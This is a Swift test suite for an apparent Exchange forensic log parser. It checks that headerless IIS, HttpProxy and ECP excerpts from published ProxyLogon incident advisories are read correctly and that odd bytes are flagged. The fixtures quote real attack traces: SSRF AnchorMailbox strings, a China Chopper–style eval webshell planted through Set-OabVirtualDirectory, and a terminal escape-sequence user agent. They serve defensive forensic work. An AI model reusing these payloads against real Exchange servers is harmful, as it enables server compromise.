import ExchangeEvidence
import Foundation
import Testing

/// Log lines as advisories publish them (no `#Fields`), hand-made headers, and files with odd bytes.
@Suite struct HeaderlessLogTests {
    static func loadText(_ text: String, _ name: String) throws -> (EventStore, EvidenceFile) {
        let dir = Fixtures.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        Fixtures.write(text, name, in: dir)
        let (store, _) = try Fixtures.load(dir.path)
        return (store, store.files[0])
    }

    /// Real webshell access lines from an incident (HelseCERT), as published: no header.
    static let iisLines = """
    2021-03-05 03:06:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133
    2021-03-08 20:37:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=3aef83a1-4149-4d14-aee4-8c18470818e0;&encoding=; 443 - 67.205.176.9 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safari/537.36 - 302 0 0 112

    """

    @Test func iisLinesWithoutFieldsUseTheDefaultFieldSet() throws {
        let (store, f) = try Self.loadText(Self.iisLines, "advisory/excerpt.txt")
        #expect(f.kind == .iis)
        #expect(store.count == 2)
        #expect(store.value(.clientIP, 0) == "139.162.202.236")
        #expect(store.value(.urlStem, 0) == "/owa/auth/RedirSuiteServerProxy.aspx")
        #expect(store.value(.status, 1) == "302")
        #expect(store.time[0] == Timestamp.parse("2021-03-05T03:06:27Z"))
        #expect(f.messages.count == 1)
        #expect(f.messages[0].hasPrefix("line 1: no #Fields header; read with IIS's default field set (date time s-ip"))
    }

    @Test func aPastedLineWithoutLineEndIsStillRecognised() throws {
        let one = String(Self.iisLines.split(separator: "\n")[0])
        let (store, f) = try Self.loadText(one, "advisory/one-line.txt")
        #expect(f.kind == .iis)
        #expect(store.value(.clientIP, 0) == "139.162.202.236")
    }

    @Test func lineThatDoesNotFitTheDefaultSetStaysText() throws {
        let (_, f) = try Self.loadText("2021-03-05 03:06:27 GET /owa/ 200\n", "notes.txt")
        #expect(f.kind == .text)
    }

    @Test func fieldsDirectiveWithASpaceOrLowerCase() throws {
        for directive in ["# Fields:", "#fields:", "#FIELDS :"] {
            let text = "#Software: Microsoft Internet Information Services 10.0\n\(directive) date time c-ip cs-uri-stem sc-status\n2021-03-03 06:49:42 130.255.189.21 /ecp/y.js 200\n"
            let (store, f) = try Self.loadText(text, "W3SVC1/u_ex210303.log")
            #expect(f.kind == .iis)
            #expect(store.value(.clientIP, 0) == "130.255.189.21", "\(directive)")
            #expect(f.problems.total == 0, "\(directive): \(f.messages)")
        }
        let (store, f) = try Self.loadText("# Fields: date time c-ip\n2021-03-03 06:49:42 1.2.3.4\n", "sample.log")
        #expect(f.kind == .iis, "no #Software line: the #Fields line alone decides")
        #expect(store.value(.clientIP, 0) == "1.2.3.4")
    }

    @Test func unknownHashLinesAreKeptAndReported() throws {
        let text = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time c-ip\n#attacker was here\n#Remark: restart\n2021-03-03 06:49:42 1.2.3.4\n"
        let (store, f) = try Self.loadText(text, "W3SVC1/u_ex210303.log")
        #expect(store.count == 2)
        #expect(store.rawLine(0) == "#attacker was here")
        #expect(f.messages == ["line 3: '#' line that is no known header directive (#attacker was here…; kept as text)"])
    }

    /// The ProxyLogon scanner's HttpProxy line (Exchange 2013 CU21, 68 values), without its header.
    static let httpProxy2013 = "2021-03-07T15:04:04.546Z,1a51fb75-0000-0000-0000-000000000000,15,0,1395,0,,Owa,[REDACTED],/owa/auth/x.js,,FBA,false,,,ServerInfo~localhost/ecp/default.flt?,Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36,[REDACTED],[REDACTED],500,500,,GET,Proxy,localhost,0.00.0003.000,CrossRegion,X-AnonResource-Backend-Cookie,,,,0,85,1,,1,7,,0,,0,,0,0,,0,382,0,,,,239,4,4,3,,2,380,1,298,131,135,136,382,,,,BeginRequest=2021-03-07T15:04:04.546Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-3;\n"

    @Test func httpProxyLinesWithoutHeaderUseTheCommonColumns() throws {
        let (store, f) = try Self.loadText(Self.httpProxy2013, "excerpt/owa.csv")
        #expect(f.kind == .httpProxy)
        #expect(store.count == 1)
        #expect(store.value(.anchorMailbox, 0) == "ServerInfo~localhost/ecp/default.flt?")
        #expect(store.value(.urlStem, 0) == "/owa/auth/x.js")
        #expect(store.value(.status, 0) == "500")
        #expect(store.value(.method, 0) == "GET")
        #expect(store.value(.serverBuild, 0) == "15.0.1395.0")
        #expect(f.messages == ["line 1: no #Fields header; read as HttpProxy, the 29 columns common to Exchange 2013/2016/2019 (68 values)"])
    }

    /// A redacted excerpt's `[REDACTED]` ServerHostName names no server (reviewer: it became one).
    @Test func aRedactedServerNameNamesNoServer() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write(Self.httpProxy2013, "excerpt.log", in: dir)
        let (store, _) = try Fixtures.load(dir.appendingPathComponent("excerpt.log").path)
        #expect(store.files.map(\.server) == ["unknown"])
    }

    @Test func httpProxyExcerptWithSomeColumnsIsReadByWhatItsValuesAre() throws {
        let text = "2021-03-03T06:49:46.210Z,130.255.189.21,/ecp/y.js,ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,241\n"
        let (store, f) = try Self.loadText(text, "advisory/owa.txt")
        #expect(f.kind == .httpProxy)
        #expect(store.value(.clientIP, 0) == "130.255.189.21")
        #expect(store.value(.anchorMailbox, 0) == "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#")
        #expect(store.value(.userAgent, 0) == "python-requests/2.25.1")
        #expect(store.value(.status, 0) == "241")
        #expect(f.messages == ["line 1: no #Fields header; read as HttpProxy excerpt, columns inferred from the values (DateTime,ClientIpAddress,UrlStem,AnchorMailbox,UserAgent,HttpStatus)"])
        // A line that is no request keeps being text.
        let (_, g) = try Self.loadText("2021-03-03T06:49:46.210Z,backup finished,42\n", "notes.txt")
        #expect(g.kind == .text)
    }

    /// The same columns under a bare header row, as a SIEM export or an advisory's CSV gives them (reviewer's case:
    /// read as text before, so the SSRF in it went unseen); quoted names as Export-Csv writes them, too.
    @Test func httpProxyExcerptWithABareHeaderIsReadByItsHeader() throws {
        let row = "2021-03-03T07:00:00.000Z,149.28.14.163,/ecp/z.js,ServerInfo~a]@ex08.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,200\n"
        for header in ["DateTime,ClientIpAddress,UrlStem,AnchorMailbox,UserAgent,HttpStatus",
                       "\"DateTime\",\"ClientIpAddress\",\"UrlStem\",\"AnchorMailbox\",\"UserAgent\",\"HttpStatus\""] {
            let (store, f) = try Self.loadText(header + "\n" + row, "advisory-subset.csv")
            #expect(f.kind == .httpProxy)
            #expect(f.eventCount == 1)
            #expect(store.value(.clientIP, 0) == "149.28.14.163")
            #expect(store.value(.urlStem, 0) == "/ecp/z.js")
            #expect(store.value(.status, 0) == "200")
            #expect(f.messages.isEmpty)
        }
        // A header of other columns stays what it was.
        let (_, g) = try Self.loadText("DateTime,Job,Result\n2021-03-03T07:00:00Z,backup,ok\n", "jobs.csv")
        #expect(g.kind != .httpProxy)
    }

    @Test func ecpExcerptWithTwoColumns() throws {
        let text = "2021-03-03T06:49:51.389Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=\n"
        let (store, f) = try Self.loadText(text, "excerpt/ecp.txt")
        #expect(f.kind == .ecpServer)
        #expect(store.field("EventData", of: 0)?.hasPrefix("S:CMD=Get-OabVirtualDirectory") == true)
        #expect(f.messages == ["line 1: no #Fields header; read as ECP log excerpt (TimeStamp,EventData)"])
    }

    /// HelseCERT's published excerpt, verbatim: the cmdlets quote with `'` and hold commas (`Request[""k""],""unsafe""`),
    /// so EventData is the rest of each line, with no field-count problem; a value wrapped whole in `'…'` has that
    /// quoting undone (its `''` and `""` one quote each), so it reads as the ECP log held it.
    @Test func helseCERTsECPExcerptKeepsEachCmdletWhole() throws {
        let lines = [
            "2021-03-03T06:49:51.389Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=",
            #"2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''"#,
            "2021-03-03T06:50:00.717Z,'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''servernavn\\OAB (Default Web Site)''';;S:EX=",
            #"2021-03-03T06:50:08.396Z,"S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''",x"#,
        ]
        let (store, f) = try Self.loadText(lines.joined(separator: "\r\n") + "\r\n", "excerpt/ECPServer20210303-1.txt")
        #expect(f.kind == .ecpServer)
        #expect(store.count == 4)
        for (i, line) in lines.enumerated() {
            #expect(store.fields(of: i).count == 2)
            if i == 1 { continue }              // wrapped whole in '…': below
            #expect(store.field("EventData", of: i) == String(line.drop { $0 != "," }.dropFirst()))
        }
        #expect(store.field("EventData", of: 1) == #"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"#)
        #expect(store.field("TimeStamp", of: 1) == "2021-03-03T06:49:53.772Z")
        #expect(store.time[1] == Timestamp.parse("2021-03-03T06:49:53.772Z"))
        #expect(f.messages == ["line 1: no #Fields header; read as ECP log excerpt (TimeStamp,EventData)"])
    }

    @Test func cutOffFieldsLineIsAProblem() throws {
        let text = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: DateTime,RequestId,MajorVersion,Min"
        let (_, f) = try Self.loadText(text, "EX01/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG")
        #expect(f.messages == ["line 5: #Fields header cut off (file ends mid-line)"])
    }

    @Test func aStrayNULDoesNotMakeALogBinary() throws {
        var text = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time c-ip cs(User-Agent) sc-status\n"
        text += "2021-03-03 06:49:42 1.2.3.4 python\u{0}-requests 200\n"
        for i in 0..<2000 { text += "2021-03-03 06:50:\(String(format: "%02d", i % 60)) 10.0.0.\(i % 200) Mozilla/5.0 200\n" }
        let (store, f) = try Self.loadText(text, "W3SVC1/u_ex210303.log")
        #expect(f.kind == .iis)
        #expect(store.count == 2001)
        #expect(f.messages == ["line 3: contains NUL bytes (binary data; kept, shown escaped)"])
    }

    /// An escape sequence or a bell in a user agent (an attacker writing to the analyst's terminal) is named
    /// by line, by every reader; tabs are not odd.
    @Test(arguments: ["W3SVC1/u_ex210303.log", "EX01/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG", "EX01/notes.txt"])
    func controlCharactersAreReportedByLine(_ path: String) throws {
        let iis = path.hasSuffix(".log")
        var text = iis ? "#Fields: date time c-ip cs(User-Agent) sc-status\n"
            : path.hasSuffix(".LOG") ? "#Software: Microsoft Exchange Server\n#Fields: DateTime,RequestId,ClientIpAddress,UserAgent,HttpStatus\n"
            : "free text\n"
        let sep = iis ? " " : ","
        let pre = iis ? 2 : path.hasSuffix(".LOG") ? 3 : 2
        let time = iis ? ["2021-03-03", "06:49:42"] : ["2021-03-03T06:49:42.000Z", "r1"]
        text += (time + ["1.2.3.4", "curl\u{1B}]0;owned\u{07}", "200"]).joined(separator: sep) + "\n"
        text += (time + ["1.2.3.5", "Mozilla\t5.0", "200"]).joined(separator: sep) + "\n"
        let (store, f) = try Self.loadText(text, path)
        #expect(store.count >= 2)
        #expect(f.messages.contains("line \(pre): contains control characters (first: ESC; kept, shown escaped)"), "\(f.messages)")
        #expect(!f.messages.contains { $0.hasPrefix("line \(pre + 1):") }, "a tab is no control worth a line: \(f.messages)")
    }

    @Test func mostlyNonTextIsStillBinary() throws {
        var bytes: [UInt8] = []
        var x: UInt32 = 12345
        for _ in 0..<10_000 { x = x &* 1_103_515_245 &+ 12345; bytes.append(UInt8(truncatingIfNeeded: x >> 16)) }
        let dir = Fixtures.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        Fixtures.write(bytes, "EX01/blob.bin", in: dir)
        let (store, _) = try Fixtures.load(dir.path)
        #expect(store.files[0].messages == ["binary data of no known format: hashed, not parsed"])
    }
}
